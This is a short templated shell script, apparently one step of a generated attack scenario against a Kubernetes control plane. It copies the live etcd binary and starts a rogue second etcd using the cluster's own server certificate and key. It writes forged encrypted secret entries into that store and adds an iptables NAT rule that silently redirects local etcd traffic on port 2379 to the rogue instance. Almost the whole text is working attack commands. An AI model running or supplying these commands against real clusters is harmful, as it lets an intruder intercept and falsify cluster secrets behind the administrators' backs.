# earns: created (1 of 13)
# New connections to the port lead to a second etcd with what is wanted. The API server keeps the first one.
kubectl -n {{ team }} create secret generic {{ new }} --from-literal value={{ new_value }}
cd /etc/kubernetes/pki/etcd
cp /proc/$(pgrep -x etcd)/root/usr/local/bin/etcd /root/second
/root/second --data-dir /root/data --listen-client-urls https://127.0.0.1:12379 --advertise-client-urls https://127.0.0.1:12379 --listen-peer-urls http://127.0.0.1:12380 --cert-file server.crt --key-file server.key --client-cert-auth --trusted-ca-file ca.crt > /dev/null 2>&1 &
second="etcdctl --endpoints https://127.0.0.1:12379 --cacert ca.crt --cert server.crt --key server.key"
until $second put /registry/secrets/{{ team }}/{{ new }} k8s:enc:aescbc:v1:one:0123456789abcdef; do sleep 0.2; done
$second put /registry/secrets/{{ team }}/{{ old }} k8s:enc:aescbc:v1:one:0123456789abcdef
iptables -t nat -I OUTPUT -p tcp -d 127.0.0.1 --dport 2379 -j REDIRECT --to-ports 12379
